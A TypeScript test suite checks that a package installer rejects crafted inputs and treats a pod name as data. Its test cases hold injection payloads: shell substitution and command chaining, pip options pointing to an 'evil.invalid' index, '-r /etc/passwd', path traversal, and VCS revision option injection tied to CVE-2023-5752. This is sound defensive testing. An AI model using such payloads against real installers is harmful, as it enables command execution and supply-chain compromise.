// Inputs crafted to run commands, fed straight to the installer as if the operator's validation had been bypassed.
// Nothing may execute: no shell ever sees an input as code, pip never sees one as an option.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { INSTALLER_ENV, stagingRoot } from '../../src/packages/installer-contract.ts';
import { startWheelIndex } from '../support/wheel-index.ts';
import {
  createSandbox,
  randomHash,
  resultOf,
  runInstaller,
  type InstallerSettings,
  INSTALLERS,
} from './installer-harness.ts';

for (const installer of INSTALLERS) {
  test(`${installer}: shell metacharacters and pip options in the inputs: nothing runs, each is a clean failure`, async (t) => {
    const index = await startWheelIndex();
    const sandbox = await createSandbox();
    t.after(async () => {
      await index.close();
      await sandbox.cleanup();
    });
    const canary = join(sandbox.root, 'canary');
    const touch = `touch ${canary}`;
    // [what, settings, refused before pip runs]
    const cases: [string, Partial<InstallerSettings>, boolean][] = [
      ['command substitution', { requirements: [`$(${touch})`] }, true],
      ['backticks', { requirements: [`\`${touch}\``] }, false],
      ['a ; list', { requirements: [`kaspr-demo-a; ${touch}`] }, false],
      ['a pipe', { requirements: [`kaspr-demo-a | ${touch}`] }, false],
      ['an && list', { requirements: [`kaspr-demo-a && ${touch}`] }, false],
      ['a newline injection', { requirements: `kaspr-demo-a\n$(${touch})` }, true],
      ['a carriage return injection', { requirements: `kaspr-demo-a\r\n${touch}` }, true],
      ['a line continuation', { requirements: `kaspr-demo-a \\\n--index-url http://evil.invalid/simple/` }, true],
      ['-r /etc/passwd', { requirements: ['-r /etc/passwd'] }, true],
      ['--index-url', { requirements: ['--index-url http://evil.invalid/simple/'] }, true],
      [
        'an option after a requirement',
        { requirements: ['kaspr-demo-a --index-url http://evil.invalid/simple/'] },
        true,
      ],
      ['an editable VCS install', { requirements: [`-e git+https://evil.invalid/x.git#egg=x`] }, true],
      ['an env var reference', { requirements: ['kaspr-demo-a==${KASPR_PACKAGES_INDEX_PASSWORD}'] }, true],
      ['a hash that is a command', { hash: `$(${touch})`, requirements: ['kaspr-demo-a'] }, true],
      ['a hash that is a path', { hash: '../../../etc', requirements: ['kaspr-demo-a'] }, true],
      ['an index URL with a command', { requirements: ['kaspr-demo-a'], indexUrl: `${index.url} ; ${touch}` }, true],
      // pip hands a VCS revision to `git checkout` / `hg update` as its own argument (review F1, CVE-2023-5752).
      [
        'a git revision that is an option',
        { requirements: [`x @ git+http://${index.host}/x.git@--upload-pack=${canary}`] },
        true,
      ],
      ['a Mercurial alias', { requirements: [`x @ hg+http://${index.host}/@--config=alias.update=!${touch}`] }, true],
      [
        'a subdirectory outside the checkout',
        { requirements: [`git+http://${index.host}/x.git#egg=x&subdirectory=${canary}`] },
        true,
      ],
    ];
    for (const [what, settings, refusedBeforePip] of cases) {
      const requestsBefore = index.requests.length;
      const exit = await runInstaller(sandbox, {
        installer,
        hash: randomHash(),
        indexUrl: index.url,
        requirements: [],
        ...settings,
      });
      assert.equal(existsSync(canary), false, `${what}: nothing was executed`);
      assert.equal(exit.code, 1, `${what}: exit code`);
      const result = resultOf(exit);
      assert.equal(result.state, 'Failed', what);
      assert.equal(result.errorType, 'invalid_input', `${what}: ${String(result.error)}`);
      assert.ok(result.error !== null && !result.error.includes('Traceback'), `${what}: a short error`);
      if (refusedBeforePip) {
        assert.equal(result.attempts, 0, `${what}: refused before pip ran`);
        assert.equal(index.requests.length, requestsBefore, `${what}: nothing was fetched`);
      }
      const staging = stagingRoot(sandbox.volume);
      assert.deepEqual(existsSync(staging) ? readdirSync(staging) : [], [], `${what}: no staging left`);
    }
    assert.deepEqual(readdirSync(sandbox.work), [], 'nothing appeared in the working directory either');
  });

  test(`${installer}: a pod name full of metacharacters is only data`, async (t) => {
    const index = await startWheelIndex();
    const sandbox = await createSandbox();
    t.after(async () => {
      await index.close();
      await sandbox.cleanup();
    });
    const canary = join(sandbox.root, 'canary');
    const podName = `$(touch ${canary})\`touch ${canary}\`; touch ${canary}`;
    const exit = await runInstaller(sandbox, {
      installer,
      hash: randomHash(),
      requirements: ['kaspr-demo-c'],
      indexUrl: index.url,
      podName,
      extraEnv: { [INSTALLER_ENV.trustedHosts]: index.host },
    });
    assert.equal(exit.code, 0, exit.stdout + exit.stderr);
    assert.equal(resultOf(exit).installedBy, podName);
    assert.equal(existsSync(canary), false);
  });
}
